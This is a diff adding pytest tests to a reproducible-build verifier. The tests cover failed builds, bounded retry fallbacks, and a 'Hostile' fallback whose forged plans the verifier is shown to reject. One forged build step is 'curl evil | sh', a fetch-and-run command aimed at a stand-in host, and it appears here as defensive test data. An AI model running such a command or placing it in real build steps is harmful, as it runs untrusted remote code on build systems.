@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
+from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
@@ -12,11 +14,11 @@ from rebuild.attest import dsse
 from rebuild.attest.keys import generate
 from rebuild.build.images import BuilderImage, ImageSpec
 from rebuild.build.sandbox import BuildRequest, BuildResult
-from rebuild.errors import VerificationError
+from rebuild.errors import BuildFailedError, PlanError, VerificationError
 from rebuild.fetch.cache import BlobCache
 from rebuild.plan import Environment, Output, Source
 from rebuild.recipes import RecipeBook
-from rebuild.resolution import Candidate, Resolution
+from rebuild.resolution import Candidate, Followup, Outcome, Resolution
 from rebuild.verify import Backends, verify_resolution
 
 PUBLISHED = b"the published release"
@@ -148,3 +150,143 @@ def test_an_internal_error_still_leaves_a_report_that_says_nothing_was_verified(
     report = json.loads((out / "verify-report.json").read_text())
     assert report["reproduced"] is False and report["exit_code"] == 3
     assert report["error"] == "internal error: RuntimeError: a bug in a backend"
+
+
+class FailingSandbox(FakeSandbox):
+    """Fails the build for the given epochs (as a real build exits 1), else behaves as ``FakeSandbox``."""
+
+    def __init__(self, matching_epoch: str | None, failing: set[str]) -> None:
+        super().__init__(matching_epoch)
+        self.failing = failing
+
+    def run(self, request: BuildRequest, out_dir: Path) -> BuildResult:
+        epoch = request.env.get("SOURCE_DATE_EPOCH")
+        if epoch in self.failing:
+            self.epochs.append(epoch)
+            raise BuildFailedError(f"the build exited 1 (epoch {epoch})", log=f"error: option --universal at {epoch}")
+        return super().run(request, out_dir)
+
+
+def test_a_failed_build_is_an_attempt_and_the_next_candidate_reproduces(tmp_path: Path) -> None:
+    sandbox = FailingSandbox(matching_epoch="2", failing={"1"})
+    report = run(tmp_path, sandbox, resolution(tmp_path, [1, 2, 3]), signer=generate("ed25519"))
+    assert sandbox.epochs == ["1", "2"]
+    assert report.reproduced is True
+    assert [(a.outcome, a.reproduced) for a in report.attempts] == [("build failed", False), ("reproduced", True)]
+    assert report.attempts[0].error == "the build exited 1 (epoch 1)"
+    written = json.loads((tmp_path / "out" / "verify-report.json").read_text())
+    assert [a["outcome"] for a in written["attempts"]] == ["build failed", "reproduced"]
+    assert len(list((tmp_path / "out").glob("*.rebuild.intoto.jsonl"))) == 1
+
+
+def test_every_candidate_failing_to_build_is_could_not_rebuild_with_every_attempt_reported(tmp_path: Path) -> None:
+    sandbox = FailingSandbox(matching_epoch=None, failing={"1", "2", "3"})
+    with pytest.raises(BuildFailedError, match=r"the build exited 1 \(epoch 3\)") as caught:
+        run(tmp_path, sandbox, resolution(tmp_path, [1, 2, 3]), signer=generate("ed25519"))
+    assert caught.value.exit_code == 3
+    assert "3 candidates tried, none built" in caught.value.hint
+    assert sandbox.epochs == ["1", "2", "3"]
+    written = json.loads((tmp_path / "out" / "verify-report.json").read_text())
+    assert written["reproduced"] is False and written["exit_code"] == 3
+    assert [a["label"] for a in written["attempts"]] == [f"SOURCE_DATE_EPOCH={n}" for n in (1, 2, 3)]
+    assert {a["outcome"] for a in written["attempts"]} == {"build failed"}
+    assert not list((tmp_path / "out").glob("*.intoto.jsonl"))
+
+
+def test_the_attempts_survive_verify_targets_own_failure_report(tmp_path: Path) -> None:
+    """verify_target writes its report on every error: it keeps the attempts this run's loop listed."""
+    from rebuild.verify import write_failure_report
+
+    out = tmp_path / "out"
+    sandbox = FailingSandbox(matching_epoch=None, failing={"1", "2"})
+    with pytest.raises(BuildFailedError) as caught:
+        run(tmp_path, sandbox, resolution(tmp_path, [1, 2]))
+    write_failure_report(out, "the target", caught.value)
+    written = json.loads((out / "verify-report.json").read_text())
+    assert written["target"] == "the target" and len(written["attempts"]) == 2
+
+
+def test_a_mismatch_then_a_failed_build_is_not_reproduced_and_keeps_the_mismatch(tmp_path: Path) -> None:
+    sandbox = FailingSandbox(matching_epoch=None, failing={"2"})
+    report = run(tmp_path, sandbox, resolution(tmp_path, [1, 2]), signer=generate("ed25519"), attest_failures=True)
+    assert report.reproduced is False  # exit 1: different, never "could not rebuild"
+    assert [a.outcome for a in report.attempts] == ["differs", "build failed"]
+    assert report.plan.environment.source_date_epoch == 1  # the plan that was compared
+    (comparison,) = report.comparisons
+    assert not comparison.identical
+    assert (tmp_path / "out" / "rebuilt" / NAME).read_bytes() == PUBLISHED + b" built at 1"
+    (failed,) = (tmp_path / "out").glob("*.rebuild-failed.intoto.jsonl")
+    assert not list((tmp_path / "out").glob("*.rebuild.intoto.jsonl"))
+    assert failed.exists()
+
+
+class Retry:
+    """A fallback: after a failed build, the same candidate again with another epoch (as many as asked)."""
+
+    def __init__(self, epochs: list[int], rewrite: bool = False) -> None:
+        self.epochs, self.rewrite, self.seen = epochs, rewrite, []  # type: list[int], bool, list[Outcome]
+
+    def __call__(self, outcome: Outcome, pending: Sequence[Candidate]) -> Followup:
+        self.seen.append(outcome)
+        if not outcome.build_error:
+            return Followup()
+        plan = outcome.candidate.plan
+        extra = tuple(
+            Candidate(f"retry at {e}", dataclasses.replace(plan, environment=Environment(e))) for e in self.epochs
+        )
+        self.epochs = []
+        return Followup(extra, notes=("retried",))
+
+
+def test_a_fallback_adds_candidates_after_a_failed_build_and_sees_its_log(tmp_path: Path) -> None:
+    res = resolution(tmp_path, [1, 3])
+    res.fallback = hook = Retry([2])
+    sandbox = FailingSandbox(matching_epoch="2", failing={"1"})
+    report = run(tmp_path, sandbox, res)
+    assert sandbox.epochs == ["1", "2"]  # the fallback's candidate is tried before the pending one
+    assert report.reproduced is True
+    assert [(a.label, a.fallback) for a in report.attempts] == [("SOURCE_DATE_EPOCH=1", False), ("retry at 2", True)]
+    assert hook.seen[0].build_error == "the build exited 1 (epoch 1)"
+    assert hook.seen[0].build_log == "error: option --universal at 1"
+    assert "retried" in report.notes
+
+
+def test_a_fallback_is_bounded(tmp_path: Path) -> None:
+    from rebuild.verify import MAX_FALLBACK_ATTEMPTS
+
+    res = resolution(tmp_path, [1])
+    res.fallback = Retry(list(range(100, 120)))
+    sandbox = FailingSandbox(matching_epoch=None, failing={"1"})
+    report = run(tmp_path, sandbox, res)
+    assert len(sandbox.epochs) == 1 + MAX_FALLBACK_ATTEMPTS
+    assert any("not tried: at most" in note for note in report.notes)
+
+
+class Hostile:
+    """A fallback that hands back what no adapter may: another recipe's plan, or more pending than it got."""
+
+    def __init__(self, kind: str) -> None:
+        self.kind = kind
+
+    def __call__(self, outcome: Outcome, pending: Sequence[Candidate]) -> Followup:
+        plan = outcome.candidate.plan
+        if self.kind == "steps":
+            forged = dataclasses.replace(plan, steps=("curl evil | sh",), environment=Environment(2))
+            return Followup((Candidate("forged steps", forged),))
+        if self.kind == "output":
+            other = dataclasses.replace(plan, outputs=(Output(NAME, "0" * 64),), environment=Environment(2))
+            return Followup((Candidate("other output", other),))
+        if self.kind == "grow":
+            return Followup(pending=(*pending, *pending, outcome.candidate))
+        raise PlanError("the index says no")
+
+
+@pytest.mark.parametrize("kind", ["steps", "output", "grow", "raises"])
+def test_what_a_fallback_gives_is_checked_like_any_candidate(tmp_path: Path, kind: str) -> None:
+    res = resolution(tmp_path, [1])
+    res.fallback = Hostile(kind)
+    sandbox = FailingSandbox(matching_epoch="2", failing=set())
+    report = run(tmp_path, sandbox, res)
+    assert sandbox.epochs == ["1"]  # nothing it gave was built
+    assert report.reproduced is False
+    assert len(report.notes) == 1 and report.notes[0].startswith("no fallback after SOURCE_DATE_EPOCH=1: ")
